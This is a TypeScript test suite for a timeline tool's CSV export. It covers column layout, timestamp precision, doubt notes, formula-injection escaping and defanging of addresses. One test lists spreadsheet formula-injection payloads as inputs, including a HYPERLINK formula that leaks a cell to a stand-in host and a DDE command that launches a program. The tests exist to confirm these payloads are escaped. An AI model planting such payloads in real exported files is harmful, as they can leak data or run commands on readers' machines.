import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { TimelineEntry } from '#domain/timeline.ts';
import { mergeEntries } from './merge-entries.ts';
import { placeOnDays } from './place-on-days.ts';
import { sampleEntry } from './sample-entries.ts';
import { toRows } from './timeline-rows.ts';
import { toCsv } from './to-csv.ts';

function csvOf(entries: readonly TimelineEntry[], isDefanged = false, readAt = 0): string {
  const { entries: merged } = mergeEntries([{ pages: [entries], readAt }]);
  return toCsv(toRows(placeOnDays(merged, 'UTC'), 'oldest'), isDefanged);
}

/** RFC 4180 read back: rows of cells. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

test('has a head, and a row for every entry in the order on screen', () => {
  const rows = parse(
    csvOf([
      sampleEntry({ id: '2', time: '2026-11-22T07:31:00Z', precision: 'minute' }),
      sampleEntry({ id: '1', time: '2026-11-21', precision: 'day' }),
      sampleEntry({
        id: '3',
        time: '2026-11-22T07:31:09.482Z',
        precision: 'microsecond',
        stamp: { original: '2026-11-22T08:31:09.482913+01:00', zone: '+01:00' },
      }),
    ]),
  );
  expect(rows[0]?.slice(0, 4)).toEqual(['Time (UTC)', 'Precision', 'Written as', 'Zone']);
  expect(rows.slice(1).map(row => row[0])).toEqual([
    '2026-11-21',
    '2026-11-22T07:31Z',
    '2026-11-22T07:31:09.482913Z',
  ]);
  expect(rows[3]?.slice(1, 4)).toEqual(['microsecond', '2026-11-22T08:31:09.482913+01:00', "'+01:00"]);
});

test('doubts and marks go with it', () => {
  const csv = csvOf(
    [
      sampleEntry({
        time: '2026-11-22T06:58:00Z',
        notBefore: { at: Date.parse('2026-11-22T06:59:20Z'), what: 'its own alert' },
        stamp: { doubt: 'Rounded by the sensor.', doubtMs: 60_000 },
      }),
    ],
    false,
    Date.parse('2026-11-22T06:00:00Z'),
  );
  const [, row] = parse(csv);
  expect(row?.[4]).toBe('±1 min: Rounded by the sensor.');
  expect(row?.[5]).toBe('before its own alert; after it was read');
});

test.each([
  '=HYPERLINK("//e.test?"&A1)',
  '\t=1+1',
  "\n=cmd|' /C calc'!A0",
  '@SUM(1)',
  '＝1+1',
  '+1',
  '-2+3',
  '\r=1',
  '\0=1',
  '  =1',
])('%j is no formula', subject => {
  const [, row] = parse(csvOf([sampleEntry({ subject })]));
  expect(row?.[9]).toBe(`'${subject}`);
});

test('whatever is written, it is read back whole and begins no formula', () => {
  const text = fc.oneof(
    fc.string({ unit: 'grapheme' }),
    fc
      .array(fc.constantFrom('=', '+', '"', ',', '\r', '\n', "'", 'a', ' ', '\t', '@'))
      .map(list => list.join('')),
  );
  fc.assert(
    fc.property(text, text, (subject, support) => {
      const [, row, ...rest] = parse(csvOf([sampleEntry({ subject, support })]));
      expect(rest).toEqual([]);
      for (const [cell, written] of [
        [row?.[9] ?? '', subject],
        [row?.[10] ?? '', support],
      ] as const) {
        expect([written, `'${written}`]).toContain(cell);
        expect(cell).not.toMatch(/^[\t\r\n]|^\s*[=+\-@]/);
      }
    }),
    { numRuns: 500 },
  );
});

test('addresses are defanged unless asked otherwise', () => {
  const entries = [
    sampleEntry({ subject: 'https://login-vidar.app/x from 185.220.101.34 by t.haugen@vidar.no' }),
  ];
  expect(parse(csvOf(entries, true))[1]?.[9]).toBe(
    'hxxps://login-vidar[.]app/x from 185.220.101[.]34 by t.haugen[@]vidar[.]no',
  );
  expect(parse(csvOf(entries, false))[1]?.[9]).toBe(entries[0]?.subject);
});
